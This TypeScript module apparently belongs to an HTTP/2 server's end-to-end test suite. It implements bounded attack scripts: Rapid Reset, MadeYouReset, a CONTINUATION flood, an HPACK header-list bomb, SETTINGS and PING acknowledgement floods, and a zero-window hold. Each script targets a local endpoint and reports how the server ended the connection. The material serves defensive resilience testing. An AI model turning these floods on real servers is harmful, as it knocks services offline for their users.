/**
 * HTTP/2 attack scripts for the attack suite (test/e2e/parts/http2-attack-tests.ts), each
 * bounded in count and time and aimed at 127.0.0.1 only. Each returns what happened as a value
 * (what was sent, the GOAWAY or close, how long it took); the part decides what a server must do.
 */
import { encodeContinuation, encodeRstStream, encodeWindowUpdate } from "../../src/http2/frame-writer.ts";
import { FLAG, FRAME_TYPE } from "../../src/http2/frame.ts";
import { SETTING } from "../../src/http2/settings.ts";
import { dataFrame, indexedLiteral, literal, rawGetBlock } from "./h2-case-helpers.ts";
import { codeName } from "./h2-events.ts";
import { type GoawayOutcome, H2Client, type H2Endpoint, isFrame, rawFrame } from "./h2-raw.ts";
import { SITE } from "./h2-servers.ts";
import { sleep } from "./wait.ts";

/** How an attack on one connection ended. */
export interface AttackResult {
  /** Units sent (stream pairs, frames, octets: the attack says which). */
  readonly sent: number;
  /** The GOAWAY the server sent (its code and last stream), or the close without one, or neither. */
  readonly end: GoawayOutcome;
  readonly elapsedMs: number;
}

/** The first GOAWAY or the close seen so far, without waiting. */
function endSoFar(c: H2Client): GoawayOutcome | null {
  for (const e of c.events) {
    if (isFrame(e, "GOAWAY")) {
      return { kind: "goaway", code: codeName(e.frame.errorCode), lastStreamId: e.frame.lastStreamId };
    }
  }
  return c.closed ? { kind: "closed" } : null;
}

/**
 * Sends batches from `batch(i)` (i counts units) until the server sends GOAWAY or closes, `max`
 * units went out, or `ms` passed; each batch waits for the socket to drain (and the flood stops
 * when it does not within the time left). Then a short wait for the GOAWAY that the last batch
 * may still bring.
 */
async function floodUntilStopped(
  c: H2Client,
  max: number,
  ms: number,
  per: number,
  batch: (from: number, count: number) => Uint8Array,
): Promise<AttackResult> {
  const began = performance.now();
  let sent = 0;
  while (sent < max && performance.now() - began < ms && endSoFar(c) === null) {
    const count = Math.min(per, max - sent);
    c.send(batch(sent, count));
    sent += count;
    // A server that stops reading without closing ends the flood here; the result's end says so (a timeout).
    if (!await c.drained(Math.max(100, ms - (performance.now() - began)))) break;
    await sleep(0);
  }
  const end = endSoFar(c) ?? await c.goaway(2000);
  return { sent, end, elapsedMs: performance.now() - began };
}

/**
 * Rapid Reset (CVE-2023-44487): HEADERS then RST_STREAM(CANCEL) on stream after stream, so the
 * client never has more than one stream open while the server starts work for each. `sent`
 * counts streams.
 */
export async function rapidReset(endpoint: H2Endpoint, max = 20_000, ms = 10_000): Promise<AttackResult> {
  const c = await H2Client.open(endpoint);
  try {
    return await floodUntilStopped(c, max, ms, 100, (_from, count) => {
      const frames: Uint8Array[] = [];
      for (let i = 0; i < count; i++) {
        const id = c.takeStreamId();
        frames.push(c.headersFrames(id, c.requestFields(SITE.index)), encodeRstStream(id, "CANCEL"));
      }
      return Buffer.concat(frames);
    });
  } finally {
    c.destroy();
  }
}

/** What MadeYouReset provokes the server into resetting each stream with. */
export type Provocation = "window-update-0" | "data-after-end-stream";

/**
 * MadeYouReset (CVE-2025-8671): each stream opened with a request, then made invalid so that
 * the server itself resets it (a stream error): a WINDOW_UPDATE of 0 on it (RFC 9113 §6.9), or
 * DATA after END_STREAM (§5.1, half-closed (remote)). A server that counts only the client's
 * resets never stops it. `sent` counts streams.
 */
export async function madeYouReset(
  endpoint: H2Endpoint,
  provocation: Provocation,
  max = 20_000,
  ms = 10_000,
): Promise<AttackResult> {
  const c = await H2Client.open(endpoint);
  try {
    return await floodUntilStopped(c, max, ms, 100, (_from, count) => {
      const frames: Uint8Array[] = [];
      for (let i = 0; i < count; i++) {
        const id = c.takeStreamId();
        frames.push(c.headersFrames(id, c.requestFields(SITE.large)));
        frames.push(provocation === "window-update-0" ? encodeWindowUpdate(id, 0) : dataFrame(id, "x", true));
      }
      return Buffer.concat(frames);
    });
  } finally {
    c.destroy();
  }
}

/**
 * CONTINUATION flood (CVE-2024-27316 and kin): a HEADERS without END_HEADERS, then CONTINUATION
 * frames of `step` octets of valid literal fields, never ending the block, a pause after each so
 * the server reads as it comes, until the server sends GOAWAY or closes, `max` octets went, or
 * `ms` passed.
 * `sent` counts the field block's octets when the end was first seen.
 */
export async function continuationFlood(
  endpoint: H2Endpoint,
  max = 1 << 20,
  step = 4096,
  ms = 15_000,
): Promise<AttackResult> {
  const c = await H2Client.open(endpoint);
  const began = performance.now();
  try {
    const head = Uint8Array.from(rawGetBlock(c));
    c.send(rawFrame(FRAME_TYPE.HEADERS, FLAG.END_STREAM, 1, head));
    let sent = head.length;
    let n = 0;
    while (sent < max && performance.now() - began < ms && endSoFar(c) === null) {
      const fields: number[] = [];
      while (fields.length < step - 80) fields.push(...literal(`x-flood-${n++}`, "v".repeat(60)));
      c.send(encodeContinuation(1, Uint8Array.from(fields), false));
      sent += fields.length;
      if (!await c.drained(5000)) break;
      await sleep(25);
    }
    const end = endSoFar(c) ?? await c.goaway(2000);
    return { sent, end, elapsedMs: performance.now() - began };
  } finally {
    c.destroy();
  }
}

/** What the header list bomb's stream got: refused (RST_STREAM code, a status), or the connection's end. */
export interface BombResult {
  readonly blockOctets: number;
  /** The list the block decodes to, name + value + 32 per field (RFC 7541 §4.1). */
  readonly decodedOctets: number;
  readonly outcome: string;
}

/**
 * A header list bomb (HPACK, RFC 7541 §4.1, RFC 9113 §10.5.1): one field of 4,000 octets joins the
 * dynamic table, then `refs` one-octet references to it: a block of a few KiB that decodes to
 * refs x 4 KiB. The server must refuse the list (RST_STREAM, a 431, GOAWAY) without building it.
 */
export async function headerListBomb(endpoint: H2Endpoint, refs = 16_000): Promise<BombResult> {
  const c = await H2Client.open(endpoint);
  try {
    const value = "b".repeat(4000);
    const block = Uint8Array.from([
      ...rawGetBlock(c),
      ...indexedLiteral("x-bomb", value),
      ...new Array(refs).fill(0x80 | 62),
    ]);
    c.send(c.headersFramesRaw(1, block));
    const outcome = await c.waitFor((e) => {
      if (isFrame(e, "RST_STREAM") && e.frame.streamId === 1) return `RST_STREAM ${codeName(e.frame.errorCode)}`;
      if (isFrame(e, "GOAWAY")) return `GOAWAY ${codeName(e.frame.errorCode)}`;
      if (e.kind === "fields" && e.streamId === 1) return `status ${e.fields.find(([n]) => n === ":status")?.[1]}`;
      return e.kind === "closed" ? "closed" : undefined;
    }, 10_000);
    return {
      blockOctets: block.length,
      decodedOctets: (refs + 1) * (6 + 4000 + 32),
      outcome: outcome ?? "nothing in 10 s",
    };
  } finally {
    c.destroy();
  }
}

/**
 * A flood of SETTINGS or PINGs that the client never reads the acknowledgements of (its socket
 * paused), so they back up in the server: until the server closes (a write fails) or `max`
 * frames or `ms` passed. Then reading resumes to find a GOAWAY, if the server sent one.
 */
export async function ackFlood(
  endpoint: H2Endpoint,
  kind: "SETTINGS" | "PING",
  max = 2_000_000,
  ms = 20_000,
): Promise<AttackResult> {
  const c = await H2Client.open(endpoint);
  const frame = kind === "SETTINGS"
    ? rawFrame(FRAME_TYPE.SETTINGS, 0, 0, [])
    : rawFrame(FRAME_TYPE.PING, 0, 0, [1, 2, 3, 4, 5, 6, 7, 8]);
  const batch = Buffer.concat(new Array(10_000).fill(frame));
  c.pauseReading();
  try {
    const result = await floodUntilStopped(
      c,
      max,
      ms,
      10_000,
      (_from, count) => count === 10_000 ? batch : batch.subarray(0, count * frame.length),
    );
    c.resumeReading();
    const end = result.end.kind === "timeout" ? await c.goaway(2000) : result.end;
    return { ...result, end };
  } finally {
    c.destroy();
  }
}

/** How the zero window hold ended: the connection closed, the stream reset, or neither, and when. */
export interface HoldResult {
  readonly outcome: "closed" | "goaway" | "reset" | "held";
  readonly afterMs: number;
  readonly detail: string;
}

/**
 * Zero window hold: INITIAL_WINDOW_SIZE 0 and no WINDOW_UPDATE ever, a GET of a file larger than
 * any window: the server can send nothing and must give up on the stream (or the connection)
 * after its timeout. Waits up to `ms`.
 */
export async function zeroWindowHold(endpoint: H2Endpoint, ms: number): Promise<HoldResult> {
  const c = await H2Client.open(endpoint, {
    settings: [{ id: SETTING.INITIAL_WINDOW_SIZE, value: 0 }],
    windowUpdates: false,
  });
  const began = performance.now();
  try {
    const id = c.request(SITE.large);
    const end = await c.waitFor((e) => {
      if (e.kind === "closed") return { outcome: "closed" as const, detail: e.how };
      if (isFrame(e, "GOAWAY")) return { outcome: "goaway" as const, detail: codeName(e.frame.errorCode) };
      if (isFrame(e, "RST_STREAM") && e.frame.streamId === id) {
        return { outcome: "reset" as const, detail: codeName(e.frame.errorCode) };
      }
      return undefined;
    }, ms);
    return { outcome: end?.outcome ?? "held", afterMs: performance.now() - began, detail: end?.detail ?? "" };
  } finally {
    c.destroy();
  }
}
